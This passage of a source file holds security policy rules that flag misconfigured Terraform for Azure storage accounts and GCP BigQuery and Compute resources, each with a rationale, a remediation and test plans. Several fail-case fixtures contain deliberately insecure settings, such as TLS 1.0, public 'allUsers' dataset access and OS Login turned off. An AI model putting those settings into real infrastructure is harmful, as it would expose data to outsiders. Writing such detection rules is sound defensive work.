          {"format_version": "1.2", "resource_changes": [
            {"address": "azurerm_storage_account.assets", "mode": "managed", "type": "azurerm_storage_account", "name": "assets",
             "provider_name": "registry.terraform.io/hashicorp/azurerm",
             "change": {"actions": ["create"], "before": null, "after_unknown": {"id": true},
               "after": {"name": "acmeassets", "allow_nested_items_to_be_public": ↓true}}}]}
        """ expect "'azurerm_storage_account.assets' lets containers be made public"
        example fail "azurerm 2.x" """
          {"format_version": "1.2", "resource_changes": [
            {"address": "azurerm_storage_account.assets", "mode": "managed", "type": "azurerm_storage_account", "name": "assets",
             "provider_name": "registry.terraform.io/hashicorp/azurerm",
             "change": {"actions": ["create"], "before": null, "after_unknown": {"id": true},
               "after": {"name": "acmeassets", "allow_blob_public_access": ↓true}}}]}
        """ expect "allows public blob access (allow_blob_public_access = true)"
        example indeterminate "setting known only after apply" """
          {"format_version": "1.2", "resource_changes": [
            {"address": "azurerm_storage_account.assets", "mode": "managed", "type": "azurerm_storage_account", "name": "assets",
             "provider_name": "registry.terraform.io/hashicorp/azurerm",
             "change": {"actions": ["create"], "before": null,
               "after": {"name": "acmeassets"}, "after_unknown": {"id": true, "allow_nested_items_to_be_public": true}}}]}
        """
      }

      """#),
    PolicySource(
      path: "rules/security/terraform/azure/azure_storage_infrastructure_encryption_disabled.plumb",
      text: #"""
      rule azure_storage_infrastructure_encryption_disabled {
        title "Storage accounts use infrastructure (double) encryption"
        severity low
        category security
        tags [terraform, azure, storage, "encryption-at-rest"]
        rationale """
          Azure encrypts every storage account at the service level. Infrastructure encryption adds a
          second, independent layer with a different algorithm mode and key at the hardware level, so a
          flaw or a compromised key in one layer does not expose the data; CIS Azure 3.2 and several
          regulated workloads require it. It can only be chosen when the account is created: turning it
          on later means creating a new account and copying the data.
        """
        remediation """
          Set `infrastructure_encryption_enabled = true` on new `azurerm_storage_account` resources
          (it forces a replacement on existing ones: plan a migration).
        """

        for sa in terraform.resource("azurerm_storage_account")
        when not is_null(sa.after)
        # Missing in azurerm versions before 2.70, which cannot set it.
        require sa.after.infrastructure_encryption_enabled != false
          else "'${sa.address}' has no infrastructure encryption (infrastructure_encryption_enabled = false)"
          at sa.after.infrastructure_encryption_enabled

        example pass """
          {"format_version": "1.2", "resource_changes": [
            {"address": "azurerm_storage_account.ledger", "mode": "managed", "type": "azurerm_storage_account", "name": "ledger",
             "provider_name": "registry.terraform.io/hashicorp/azurerm",
             "change": {"actions": ["create"], "before": null, "after_unknown": {"id": true},
               "after": {"name": "acmeledger", "infrastructure_encryption_enabled": true}}}]}
        """
        example fail """
          {"format_version": "1.2", "resource_changes": [
            {"address": "azurerm_storage_account.ledger", "mode": "managed", "type": "azurerm_storage_account", "name": "ledger",
             "provider_name": "registry.terraform.io/hashicorp/azurerm",
             "change": {"actions": ["create"], "before": null, "after_unknown": {"id": true},
               "after": {"name": "acmeledger", "infrastructure_encryption_enabled": ↓false}}}]}
        """ expect "'azurerm_storage_account.ledger' has no infrastructure encryption"
        example indeterminate "setting known only after apply" """
          {"format_version": "1.2", "resource_changes": [
            {"address": "azurerm_storage_account.ledger", "mode": "managed", "type": "azurerm_storage_account", "name": "ledger",
             "provider_name": "registry.terraform.io/hashicorp/azurerm",
             "change": {"actions": ["create"], "before": null,
               "after": {"name": "acmeledger"}, "after_unknown": {"id": true, "infrastructure_encryption_enabled": true}}}]}
        """
      }

      """#),
    PolicySource(
      path: "rules/security/terraform/azure/azure_storage_min_tls_below_1_2.plumb",
      text: #"""
      rule azure_storage_min_tls_below_1_2 {
        title "Storage accounts require TLS 1.2 or later"
        severity medium
        category security
        tags [terraform, azure, storage, tls]
        rationale """
          TLS 1.0 and 1.1 have known weaknesses (BEAST, weak CBC and SHA-1 constructions) and are no
          longer accepted by PCI DSS or Microsoft's own baseline. A storage account whose minimum is
          below 1.2 lets a client, or an attacker downgrading the connection, use them for the traffic
          that carries account keys, SAS tokens and data. azurerm 2.x defaulted to `TLS1_0`.
        """
        remediation "Set `min_tls_version = \"TLS1_2\"` on the `azurerm_storage_account`."
        param weak_versions: list<string> = ["TLS1_0", "TLS1_1"]

        for sa in terraform.resource("azurerm_storage_account")
        when not is_null(sa.after)
        require sa.after.min_tls_version not in param.weak_versions
          else "'${sa.address}' accepts '${sa.after.min_tls_version}' (min_tls_version); TLS1_2 is the minimum"
          at sa.after.min_tls_version

        example pass """
          {"format_version": "1.2", "resource_changes": [
            {"address": "azurerm_storage_account.logs", "mode": "managed", "type": "azurerm_storage_account", "name": "logs",
             "provider_name": "registry.terraform.io/hashicorp/azurerm",
             "change": {"actions": ["create"], "before": null, "after_unknown": {"id": true},
               "after": {"name": "acmelogs", "min_tls_version": "TLS1_2"}}}]}
        """
        example fail """
          {"format_version": "1.2", "resource_changes": [
            {"address": "azurerm_storage_account.logs", "mode": "managed", "type": "azurerm_storage_account", "name": "logs",
             "provider_name": "registry.terraform.io/hashicorp/azurerm",
             "change": {"actions": ["create"], "before": null, "after_unknown": {"id": true},
               "after": {"name": "acmelogs", "min_tls_version": ↓"TLS1_0"}}}]}
        """ expect "'azurerm_storage_account.logs' accepts 'TLS1_0' (min_tls_version)"
        example indeterminate "version from a value known only after apply" """
          {"format_version": "1.2", "resource_changes": [
            {"address": "azurerm_storage_account.logs", "mode": "managed", "type": "azurerm_storage_account", "name": "logs",
             "provider_name": "registry.terraform.io/hashicorp/azurerm",
             "change": {"actions": ["create"], "before": null,
               "after": {"name": "acmelogs"}, "after_unknown": {"id": true, "min_tls_version": true}}}]}
        """
      }

      """#),
    PolicySource(
      path: "rules/security/terraform/azure/azure_storage_public_network_access.plumb",
      text: #"""
      rule azure_storage_public_network_access {
        title "Storage accounts are not reachable from every network"
        severity medium
        category security
        tags [terraform, azure, storage, network]
        rationale """
          A storage account with public network access enabled and a default network action of `Allow`
          answers every IP address on the internet. Its data is then protected by keys and SAS tokens
          alone: one leaked connection string or token (in a repository, a log, a build artifact) is
          enough to read or overwrite it from anywhere. Denying by default and allowing named networks,
          subnets or private endpoints makes a leaked credential useless outside them.
        """
        remediation """
          Add `network_rules { default_action = "Deny" … }` (or an `azurerm_storage_account_network_rules`
          resource) with the `ip_rules` and `virtual_network_subnet_ids` that need access, or set
          `public_network_access_enabled = false` and reach the account through a private endpoint.
        """

        for sa in terraform.resource("azurerm_storage_account")
        when not is_null(sa.after)
        # Missing before azurerm 3.x, where public network access could not be turned off.
        let public = default(sa.after.public_network_access_enabled, true)
        # `network_rules` is computed when the block is not written: the default action is then Allow.
        let inline = sa.after.network_rules
        let inline_unset = is_unknown(inline) and exists(sa.config) and not exists(sa.config.network_rules)
        let inline_deny = not inline_unset and any(n in inline, n.default_action == "Deny")
        # A separate azurerm_storage_account_network_rules resource for this account, in the same module.
        let ref = "azurerm_storage_account." + sa.name
        let separate = filter(n in terraform.resource("azurerm_storage_account_network_rules")[mode == "managed" and file(it) == file(sa) and to_string(module) == to_string(sa.module)],
          ref in n.config.storage_account_id.references or ref in n.config.storage_account_name.references
            or (known(sa.after.name) and n.after.storage_account_name == sa.after.name))
        let separate_deny = any(n in separate, n.after.default_action == "Deny")
        require public == false or inline_deny or separate_deny
          else "'${sa.address}' accepts connections from any network: public network access is enabled and the default network action is not Deny"
          at first(filter(x in [first(inline).default_action, sa.after.public_network_access_enabled], known(x) and exists(x)))

        example pass "deny by default" """
          {"format_version": "1.2", "resource_changes": [
            {"address": "azurerm_storage_account.data", "mode": "managed", "type": "azurerm_storage_account", "name": "data",
             "provider_name": "registry.terraform.io/hashicorp/azurerm",
             "change": {"actions": ["create"], "before": null,
               "after": {"name": "acmedata", "public_network_access_enabled": true,
                         "network_rules": [{"default_action": "Deny", "ip_rules": ["203.0.113.0/24"]}]},
               "after_unknown": {"id": true, "network_rules": [{"bypass": true, "ip_rules": [false], "virtual_network_subnet_ids": true}]}}}]}
        """
        example pass "public network access off" """
          {"format_version": "1.2", "resource_changes": [
            {"address": "azurerm_storage_account.data", "mode": "managed", "type": "azurerm_storage_account", "name": "data",
             "provider_name": "registry.terraform.io/hashicorp/azurerm",
             "change": {"actions": ["create"], "before": null,
               "after": {"name": "acmedata", "public_network_access_enabled": false},
               "after_unknown": {"id": true, "network_rules": true}}}]}
        """
        example pass "separate network rules resource" """
          {"format_version": "1.2", "resource_changes": [
            {"address": "azurerm_storage_account.data", "mode": "managed", "type": "azurerm_storage_account", "name": "data",
             "provider_name": "registry.terraform.io/hashicorp/azurerm",
             "change": {"actions": ["create"], "before": null,
               "after": {"name": "acmedata", "public_network_access_enabled": true},
               "after_unknown": {"id": true, "network_rules": true}}},
            {"address": "azurerm_storage_account_network_rules.data", "mode": "managed", "type": "azurerm_storage_account_network_rules", "name": "data",
             "provider_name": "registry.terraform.io/hashicorp/azurerm",
             "change": {"actions": ["create"], "before": null,
               "after": {"default_action": "Deny", "ip_rules": []},
               "after_unknown": {"id": true, "storage_account_id": true}}}],
           "configuration": {"root_module": {"resources": [
            {"address": "azurerm_storage_account.data", "mode": "managed", "type": "azurerm_storage_account", "name": "data",
             "expressions": {"name": {"constant_value": "acmedata"}}},
            {"address": "azurerm_storage_account_network_rules.data", "mode": "managed", "type": "azurerm_storage_account_network_rules", "name": "data",
             "expressions": {"default_action": {"constant_value": "Deny"},
                             "storage_account_id": {"references": ["azurerm_storage_account.data.id", "azurerm_storage_account.data"]}}}]}}}
        """
        example fail "default action Allow" """
          {"format_version": "1.2", "resource_changes": [
            {"address": "azurerm_storage_account.data", "mode": "managed", "type": "azurerm_storage_account", "name": "data",
             "provider_name": "registry.terraform.io/hashicorp/azurerm",
             "change": {"actions": ["create"], "before": null,
               "after": {"name": "acmedata", "public_network_access_enabled": true,
                         "network_rules": [{"default_action": ↓"Allow"}]},
               "after_unknown": {"id": true, "network_rules": [{"bypass": true, "ip_rules": true, "virtual_network_subnet_ids": true}]}}}]}
        """ expect "'azurerm_storage_account.data' accepts connections from any network"
        example fail "no network rules written" """
          {"format_version": "1.2", "resource_changes": [
            {"address": "azurerm_storage_account.data", "mode": "managed", "type": "azurerm_storage_account", "name": "data",
             "provider_name": "registry.terraform.io/hashicorp/azurerm",
             "change": {"actions": ["create"], "before": null,
               "after": {"name": "acmedata", "public_network_access_enabled": ↓true},
               "after_unknown": {"id": true, "network_rules": true}}}],
           "configuration": {"root_module": {"resources": [
            {"address": "azurerm_storage_account.data", "mode": "managed", "type": "azurerm_storage_account", "name": "data",
             "expressions": {"name": {"constant_value": "acmedata"}}}]}}}
        """ expect "public network access is enabled and the default network action is not Deny"
        example indeterminate "network rules from a dynamic block, known only after apply" """
          {"format_version": "1.2", "resource_changes": [
            {"address": "azurerm_storage_account.data", "mode": "managed", "type": "azurerm_storage_account", "name": "data",
             "provider_name": "registry.terraform.io/hashicorp/azurerm",
             "change": {"actions": ["create"], "before": null,
               "after": {"name": "acmedata", "public_network_access_enabled": true},
               "after_unknown": {"id": true, "network_rules": true}}}]}
        """
      }

      """#),
    PolicySource(
      path: "rules/security/terraform/azure/azure_storage_secure_transport_disabled.plumb",
      text: #"""
      rule azure_storage_secure_transport_disabled {
        title "Storage accounts accept HTTPS only"
        severity high
        category security
        tags [terraform, azure, storage, "encryption-in-transit"]
        rationale """
          With secure transfer off, the blob, file, queue and table endpoints also answer plain HTTP (and
          SMB without encryption). Shared keys, SAS tokens and the data itself then cross the network in
          clear text, where anyone on the path (a café Wi-Fi, a compromised proxy) can read or replay them.
        """
        remediation """
          Set `https_traffic_only_enabled = true` (azurerm 4.x; `enable_https_traffic_only = true` in
          earlier versions) on the `azurerm_storage_account`, and move any HTTP client to HTTPS.
        """

        for sa in terraform.resource("azurerm_storage_account")
        when not is_null(sa.after)
        require sa.after.https_traffic_only_enabled != false
          else "'${sa.address}' accepts unencrypted HTTP (https_traffic_only_enabled = false)"
          at sa.after.https_traffic_only_enabled
        require sa.after.enable_https_traffic_only != false
          else "'${sa.address}' accepts unencrypted HTTP (enable_https_traffic_only = false)"
          at sa.after.enable_https_traffic_only

        example pass """
          {"format_version": "1.2", "resource_changes": [
            {"address": "azurerm_storage_account.logs", "mode": "managed", "type": "azurerm_storage_account", "name": "logs",
             "provider_name": "registry.terraform.io/hashicorp/azurerm",
             "change": {"actions": ["create"], "before": null, "after_unknown": {"id": true},
               "after": {"name": "acmelogs", "https_traffic_only_enabled": true}}}]}
        """
        example fail "azurerm 4.x" """
          {"format_version": "1.2", "resource_changes": [
            {"address": "azurerm_storage_account.legacy", "mode": "managed", "type": "azurerm_storage_account", "name": "legacy",
             "provider_name": "registry.terraform.io/hashicorp/azurerm",
             "change": {"actions": ["update"], "before": {"name": "acmelegacy", "https_traffic_only_enabled": true}, "after_unknown": {},
               "after": {"name": "acmelegacy", "https_traffic_only_enabled": ↓false}}}]}
        """ expect "'azurerm_storage_account.legacy' accepts unencrypted HTTP (https_traffic_only_enabled = false)"
        example fail "azurerm 2.x and 3.x" """
          {"format_version": "1.2", "resource_changes": [
            {"address": "azurerm_storage_account.legacy", "mode": "managed", "type": "azurerm_storage_account", "name": "legacy",
             "provider_name": "registry.terraform.io/hashicorp/azurerm",
             "change": {"actions": ["create"], "before": null, "after_unknown": {"id": true},
               "after": {"name": "acmelegacy", "enable_https_traffic_only": ↓false}}}]}
        """ expect "(enable_https_traffic_only = false)"
        example indeterminate "setting known only after apply" """
          {"format_version": "1.2", "resource_changes": [
            {"address": "azurerm_storage_account.legacy", "mode": "managed", "type": "azurerm_storage_account", "name": "legacy",
             "provider_name": "registry.terraform.io/hashicorp/azurerm",
             "change": {"actions": ["create"], "before": null,
               "after": {"name": "acmelegacy"}, "after_unknown": {"id": true, "https_traffic_only_enabled": true}}}]}
        """
      }

      """#),
    PolicySource(
      path: "rules/security/terraform/gcp/gcp_bigquery_dataset_public.plumb",
      text: #"""
      rule gcp_bigquery_dataset_public {
        title "BigQuery datasets are not shared with allUsers or allAuthenticatedUsers"
        severity critical
        category security
        tags [terraform, gcp, bigquery, iam, public-access]
        rationale """
          A dataset access entry with `special_group = "allAuthenticatedUsers"` or an IAM member
          `allUsers`/`allAuthenticatedUsers` lets anyone (with any Google account) query every table in
          the dataset, and bill the queries to nobody but themselves. Datasets hold exactly the data
          worth stealing: analytics exports, customer records, logs.
        """
        remediation """
          Remove the public entry from the dataset's `access` blocks, from
          `google_bigquery_dataset_access`, or from the `google_bigquery_dataset_iam_*` resource, and
          grant `roles/bigquery.dataViewer` to the groups that need it; share public data sets through
          Analytics Hub instead.
        """
        param public_principals: list<string> = ["allUsers", "allAuthenticatedUsers"]

        for d in terraform.resource("google_bigquery_dataset", "google_bigquery_dataset_access",
          "google_bigquery_dataset_iam_member", "google_bigquery_dataset_iam_binding", "google_bigquery_dataset_iam_policy")
        when not is_null(d.after)
        # google_bigquery_dataset: `access` is computed (the default project roles) when not written.
        let access_unset = is_unknown(d.after.access) and exists(d.config) and not exists(d.config.access)
        let public_access = filter(a in d.after.access, a.special_group in param.public_principals or a.iam_member in param.public_principals)
        require access_unset or count(public_access) == 0
          else "'${d.address}' gives '${first(public_access).role}' to '${default(first(public_access).special_group, first(public_access).iam_member)}'"
          at default(first(public_access).special_group, first(public_access).iam_member)
        # google_bigquery_dataset_access (special_group, iam_member) and IAM members and bindings.
        let direct = filter(x in flatten([[d.after.special_group, d.after.iam_member, d.after.member], default(d.after.members, [])]),
          trim(x) in param.public_principals)
        require count(direct) == 0
          else "'${d.address}' gives '${d.after.role}' on dataset '${d.after.dataset_id}' to '${first(direct)}'"
          at first(direct)
        require not (d.after.policy_data matches "\"(allUsers|allAuthenticatedUsers)\"")
          else "'${d.address}' grants a role to allUsers or allAuthenticatedUsers in its policy_data"
          at d.after.policy_data

        example pass """
          {"format_version": "1.2", "resource_changes": [
            {"address": "google_bigquery_dataset.analytics", "mode": "managed", "type": "google_bigquery_dataset", "name": "analytics",
             "provider_name": "registry.terraform.io/hashicorp/google",
             "change": {"actions": ["create"], "before": null, "after_unknown": {"id": true, "etag": true, "access": [{}, {}]},
               "after": {"dataset_id": "analytics", "location": "EU", "access": [
                 {"role": "OWNER", "special_group": "projectOwners", "iam_member": null},
                 {"role": "READER", "group_by_email": "analysts@acme.example", "special_group": null, "iam_member": null}]}}}]}
        """
        example pass "default access, not written" """
          {"format_version": "1.2", "resource_changes": [
            {"address": "google_bigquery_dataset.analytics", "mode": "managed", "type": "google_bigquery_dataset", "name": "analytics",
             "provider_name": "registry.terraform.io/hashicorp/google",
             "change": {"actions": ["create"], "before": null, "after_unknown": {"id": true, "etag": true, "access": true},
               "after": {"dataset_id": "analytics", "location": "EU"}}}],
           "configuration": {"root_module": {"resources": [
            {"address": "google_bigquery_dataset.analytics", "mode": "managed", "type": "google_bigquery_dataset", "name": "analytics",
             "expressions": {"dataset_id": {"constant_value": "analytics"}, "location": {"constant_value": "EU"}}}]}}}
        """
        example fail "access block" """
          {"format_version": "1.2", "resource_changes": [
            {"address": "google_bigquery_dataset.analytics", "mode": "managed", "type": "google_bigquery_dataset", "name": "analytics",
             "provider_name": "registry.terraform.io/hashicorp/google",
             "change": {"actions": ["create"], "before": null, "after_unknown": {"id": true, "etag": true, "access": [{}, {}]},
               "after": {"dataset_id": "analytics", "location": "EU", "access": [
                 {"role": "OWNER", "special_group": "projectOwners", "iam_member": null},
                 {"role": "READER", "special_group": ↓"allAuthenticatedUsers", "iam_member": null}]}}}]}
        """ expect "'google_bigquery_dataset.analytics' gives 'READER' to 'allAuthenticatedUsers'"
        example fail "dataset access resource" """
          {"format_version": "1.2", "resource_changes": [
            {"address": "google_bigquery_dataset_access.public", "mode": "managed", "type": "google_bigquery_dataset_access", "name": "public",
             "provider_name": "registry.terraform.io/hashicorp/google",
             "change": {"actions": ["create"], "before": null, "after_unknown": {"id": true},
               "after": {"dataset_id": "analytics", "role": "READER", "iam_member": ↓"allUsers"}}}]}
        """ expect "gives 'READER' on dataset 'analytics' to 'allUsers'"
        example fail "IAM policy" """
          {"format_version": "1.2", "resource_changes": [
            {"address": "google_bigquery_dataset_iam_policy.dataset", "mode": "managed", "type": "google_bigquery_dataset_iam_policy", "name": "dataset",
             "provider_name": "registry.terraform.io/hashicorp/google",
             "change": {"actions": ["create"], "before": null, "after_unknown": {"id": true, "etag": true},
               "after": {"dataset_id": "analytics", "policy_data": ↓"{\"bindings\":[{\"members\":[\"allAuthenticatedUsers\"],\"role\":\"roles/bigquery.dataViewer\"}]}"}}}]}
        """ expect "in its policy_data"
        example indeterminate "member known only after apply" """
          {"format_version": "1.2", "resource_changes": [
            {"address": "google_bigquery_dataset_iam_member.viewer", "mode": "managed", "type": "google_bigquery_dataset_iam_member", "name": "viewer",
             "provider_name": "registry.terraform.io/hashicorp/google",
             "change": {"actions": ["create"], "before": null,
               "after": {"dataset_id": "analytics", "role": "roles/bigquery.dataViewer"}, "after_unknown": {"id": true, "etag": true, "member": true}}}]}
        """
      }

      """#),
    PolicySource(
      path: "rules/security/terraform/gcp/gcp_compute_instance_default_sa_full_access.plumb",
      text: #"""
      rule gcp_compute_instance_default_sa_full_access {
        title "Compute instances do not run as the default service account with full API access"
        severity high
        category security
        tags [terraform, gcp, compute, iam]
        rationale """
          The Compute Engine default service account holds the Editor role on its project unless that
          grant was removed. With the `cloud-platform` scope, any process on the VM, including an attacker
          who exploits the application, can fetch its token from the metadata server and read, change
          or delete nearly everything in the project: buckets, databases, secrets, other VMs.
        """
        remediation """
          Give the instance a dedicated service account with only the roles it needs
          (`service_account { email = google_service_account.app.email  scopes = ["cloud-platform"] }`),
          or keep the default account but with narrow scopes; better, remove the Editor grant from the
          default account (organization policy `iam.automaticIamGrantsForDefaultServiceAccounts`).
        """
        param full_scopes: list<string> = ["https://www.googleapis.com/auth/cloud-platform", "cloud-platform"]

        for i in terraform.resource("google_compute_instance", "google_compute_instance_template")
        when not is_null(i.after)
        let sa = first(i.after.service_account)
        # No service_account block: the VM has no credentials at all.
        when not is_empty(i.after.service_account)
        # `email` is computed (the default account) when it is not written.
        let email_unset = is_unknown(sa.email) and exists(i.config) and not exists(first(i.config.service_account).email)
        # An account created by a google_service_account resource is never the default one.
        let created = any(ref in first(i.config.service_account).email.references, starts_with(ref, "google_service_account."))
        let looked_up = any(ref in first(i.config.service_account).email.references, starts_with(ref, "data.google_compute_default_service_account."))
        let default_account = looked_up or not created and (email_unset or is_null(sa.email) or trim(sa.email) == "default"
          or ends_with(trim(sa.email), "-compute@developer.gserviceaccount.com"))
        require not (default_account and any(s in sa.scopes, trim(s) in param.full_scopes))
          else "'${i.address}' runs as the default Compute Engine service account with the cloud-platform scope: code on the VM can act as the project's Editor"
          at first(filter(s in sa.scopes, known(s) and trim(s) in param.full_scopes))

        example pass "dedicated service account" """
          {"format_version": "1.2", "resource_changes": [
            {"address": "google_compute_instance.app", "mode": "managed", "type": "google_compute_instance", "name": "app",
             "provider_name": "registry.terraform.io/hashicorp/google",
             "change": {"actions": ["create"], "before": null, "after_unknown": {"id": true, "service_account": [{"scopes": [false]}]},
               "after": {"name": "app-1", "machine_type": "e2-medium",
                         "service_account": [{"email": "app-runtime@acme-prod.iam.gserviceaccount.com", "scopes": ["https://www.googleapis.com/auth/cloud-platform"]}]}}}]}
        """
        example pass "default account with narrow scopes" """
          {"format_version": "1.2", "resource_changes": [
            {"address": "google_compute_instance.app", "mode": "managed", "type": "google_compute_instance", "name": "app",
             "provider_name": "registry.terraform.io/hashicorp/google",
             "change": {"actions": ["create"], "before": null, "after_unknown": {"id": true, "service_account": [{"scopes": [false, false]}]},
               "after": {"name": "app-1", "machine_type": "e2-medium",
                         "service_account": [{"email": "123456789-compute@developer.gserviceaccount.com",
                                              "scopes": ["https://www.googleapis.com/auth/logging.write", "https://www.googleapis.com/auth/monitoring.write"]}]}}}]}
        """
        example fail "default account named" """
          {"format_version": "1.2", "resource_changes": [
            {"address": "google_compute_instance.app", "mode": "managed", "type": "google_compute_instance", "name": "app",
             "provider_name": "registry.terraform.io/hashicorp/google",
             "change": {"actions": ["create"], "before": null, "after_unknown": {"id": true, "service_account": [{"scopes": [false]}]},
               "after": {"name": "app-1", "machine_type": "e2-medium",
                         "service_account": [{"email": "123456789-compute@developer.gserviceaccount.com", "scopes": [↓"https://www.googleapis.com/auth/cloud-platform"]}]}}}]}
        """ expect "'google_compute_instance.app' runs as the default Compute Engine service account with the cloud-platform scope"
        example fail "email not written" """
          {"format_version": "1.2", "resource_changes": [
            {"address": "google_compute_instance.app", "mode": "managed", "type": "google_compute_instance", "name": "app",
             "provider_name": "registry.terraform.io/hashicorp/google",
             "change": {"actions": ["create"], "before": null,
               "after": {"name": "app-1", "machine_type": "e2-medium", "service_account": [{"scopes": [↓"https://www.googleapis.com/auth/cloud-platform"]}]},
               "after_unknown": {"id": true, "service_account": [{"email": true, "scopes": [false]}]}}}],
           "configuration": {"root_module": {"resources": [
            {"address": "google_compute_instance.app", "mode": "managed", "type": "google_compute_instance", "name": "app",
             "expressions": {"name": {"constant_value": "app-1"}, "service_account": [{"scopes": {"constant_value": ["cloud-platform"]}}]}}]}}}
        """ expect "runs as the default Compute Engine service account"
        example fail "default account looked up with a data source" """
          {"format_version": "1.2", "resource_changes": [
            {"address": "google_compute_instance_template.app", "mode": "managed", "type": "google_compute_instance_template", "name": "app",
             "provider_name": "registry.terraform.io/hashicorp/google",
             "change": {"actions": ["create"], "before": null,
               "after": {"name_prefix": "app-", "machine_type": "e2-medium", "service_account": [{"scopes": [↓"https://www.googleapis.com/auth/cloud-platform"]}]},
               "after_unknown": {"id": true, "service_account": [{"email": true, "scopes": [false]}]}}}],
           "configuration": {"root_module": {"resources": [
            {"address": "google_compute_instance_template.app", "mode": "managed", "type": "google_compute_instance_template", "name": "app",
             "expressions": {"name_prefix": {"constant_value": "app-"},
               "service_account": [{"email": {"references": ["data.google_compute_default_service_account.default.email", "data.google_compute_default_service_account.default"]}, "scopes": {"constant_value": ["cloud-platform"]}}]}}]}}}
        """ expect "'google_compute_instance_template.app' runs as the default Compute Engine service account"
        example pass "account created in the same configuration" """
          {"format_version": "1.2", "resource_changes": [
            {"address": "google_compute_instance.app", "mode": "managed", "type": "google_compute_instance", "name": "app",
             "provider_name": "registry.terraform.io/hashicorp/google",
             "change": {"actions": ["create"], "before": null,
               "after": {"name": "app-1", "machine_type": "e2-medium", "service_account": [{"scopes": ["https://www.googleapis.com/auth/cloud-platform"]}]},
               "after_unknown": {"id": true, "service_account": [{"email": true, "scopes": [false]}]}}}],
           "configuration": {"root_module": {"resources": [
            {"address": "google_compute_instance.app", "mode": "managed", "type": "google_compute_instance", "name": "app",
             "expressions": {"name": {"constant_value": "app-1"},
               "service_account": [{"email": {"references": ["google_service_account.app.email", "google_service_account.app"]}, "scopes": {"constant_value": ["cloud-platform"]}}]}}]}}}
        """
        example indeterminate "account from a module, known only after apply" """
          {"format_version": "1.2", "resource_changes": [
            {"address": "google_compute_instance.app", "mode": "managed", "type": "google_compute_instance", "name": "app",
             "provider_name": "registry.terraform.io/hashicorp/google",
             "change": {"actions": ["create"], "before": null,
               "after": {"name": "app-1", "machine_type": "e2-medium", "service_account": [{"scopes": ["https://www.googleapis.com/auth/cloud-platform"]}]},
               "after_unknown": {"id": true, "service_account": [{"email": true, "scopes": [false]}]}}}],
           "configuration": {"root_module": {"resources": [
            {"address": "google_compute_instance.app", "mode": "managed", "type": "google_compute_instance", "name": "app",
             "expressions": {"name": {"constant_value": "app-1"},
               "service_account": [{"email": {"references": ["module.iam.runtime_email", "module.iam"]}, "scopes": {"constant_value": ["cloud-platform"]}}]}}]}}}
        """
      }

      """#),
    PolicySource(
      path: "rules/security/terraform/gcp/gcp_compute_instance_os_login_disabled.plumb",
      text: #"""
      rule gcp_compute_instance_os_login_disabled {
        title "Compute instances do not turn OS Login off"
        severity medium
        category security
        tags [terraform, gcp, compute, iam]
        rationale """
          OS Login ties SSH access to IAM identities: access follows group membership, is revoked when
          someone leaves, can require 2-step verification and is audited. Setting `enable-oslogin` to
          false on an instance overrides the project-wide setting and falls back to SSH keys in metadata,
          which anyone with `compute.instances.setMetadata` can add, which nobody rotates and which
          survive the departure of their owner.
        """
        remediation """
          Remove `enable-oslogin = "FALSE"` from the instance's (or template's) `metadata` and enable
          OS Login project-wide (`google_compute_project_metadata_item` `enable-oslogin = "TRUE"`, or the
          organization policy `compute.requireOsLogin`).
        """
        param disabled_values: list<string> = ["false", "0", "no", "n", "off"]

        for i in terraform.resource("google_compute_instance", "google_compute_instance_template")
        when not is_null(i.after)
        let v = i.after.metadata["enable-oslogin"]
        require not exists(v) or lower(trim(to_string(v))) not in param.disabled_values
          else "'${i.address}' turns OS Login off (metadata enable-oslogin = '${v}'): SSH keys in metadata grant access instead of IAM"
          at v

        example pass """
          {"format_version": "1.2", "resource_changes": [
            {"address": "google_compute_instance.app", "mode": "managed", "type": "google_compute_instance", "name": "app",
             "provider_name": "registry.terraform.io/hashicorp/google",
             "change": {"actions": ["create"], "before": null, "after_unknown": {"id": true, "metadata": {}},
               "after": {"name": "app-1", "machine_type": "e2-medium", "metadata": {"enable-oslogin": "TRUE"}}}}]}
        """
        example fail """
          {"format_version": "1.2", "resource_changes": [
            {"address": "google_compute_instance.app", "mode": "managed", "type": "google_compute_instance", "name": "app",
             "provider_name": "registry.terraform.io/hashicorp/google",
             "change": {"actions": ["create"], "before": null, "after_unknown": {"id": true, "metadata": {}},
               "after": {"name": "app-1", "machine_type": "e2-medium", "metadata": {"enable-oslogin": ↓"false", "ssh-keys": "admin:ssh-ed25519 AAAA admin"}}}}]}
        """ expect "'google_compute_instance.app' turns OS Login off (metadata enable-oslogin = 'false')"
        example indeterminate "metadata known only after apply" """
          {"format_version": "1.2", "resource_changes": [
            {"address": "google_compute_instance.app", "mode": "managed", "type": "google_compute_instance", "name": "app",
             "provider_name": "registry.terraform.io/hashicorp/google",
             "change": {"actions": ["create"], "before": null,
               "after": {"name": "app-1", "machine_type": "e2-medium"}, "after_unknown": {"id": true, "metadata": true}}}]}
        """
      }

      """#),
    PolicySource(
      path: "rules/security/terraform/gcp/gcp_compute_instance_public_ip.plumb",
      text: #"""
      rule gcp_compute_instance_public_ip {
        title "Compute instances have no external IP address"
        severity low
        category security
        tags [terraform, gcp, compute, network]
        rationale """
          An `access_config` (or `ipv6_access_config`) block gives the VM an external address: every
          service on it is then reachable whenever a firewall rule is too broad, and the VM can send data
          anywhere without passing a NAT or proxy you control. Most VMs only need outbound access
          (Cloud NAT) and administrative access (IAP TCP forwarding), neither of which needs a public IP.
        """
        remediation """
          Remove the `access_config` block from the `network_interface` of the `google_compute_instance`
          (or instance template); use Cloud NAT for egress, IAP for SSH/RDP and a load balancer for
          serving. The organization policy `compute.vmExternalIpAccess` can enforce it.
        """

        for i in terraform.resource("google_compute_instance", "google_compute_instance_template")
        when not is_null(i.after)
        let public = filter(e in map(ix, n in i.after.network_interface, {index: ix, nic: n}),
          not is_empty(e.nic.access_config) or not is_empty(e.nic.ipv6_access_config))
        require count(public) == 0
          else "'${i.address}' has an external IP address: network_interface[${first(public).index}] has an access_config or ipv6_access_config block"
          at default(first(first(public).nic.access_config), first(first(public).nic.ipv6_access_config))

        example pass """
          {"format_version": "1.2", "resource_changes": [
            {"address": "google_compute_instance.app", "mode": "managed", "type": "google_compute_instance", "name": "app",
             "provider_name": "registry.terraform.io/hashicorp/google",
             "change": {"actions": ["create"], "before": null, "after_unknown": {"id": true, "network_interface": [{"access_config": [], "ipv6_access_config": [], "network_ip": true}]},
               "after": {"name": "app-1", "machine_type": "e2-medium", "zone": "europe-west1-b",
                         "network_interface": [{"subnetwork": "app", "access_config": [], "ipv6_access_config": []}]}}}]}
        """
        example fail """
          {"format_version": "1.2", "resource_changes": [
            {"address": "google_compute_instance.app", "mode": "managed", "type": "google_compute_instance", "name": "app",
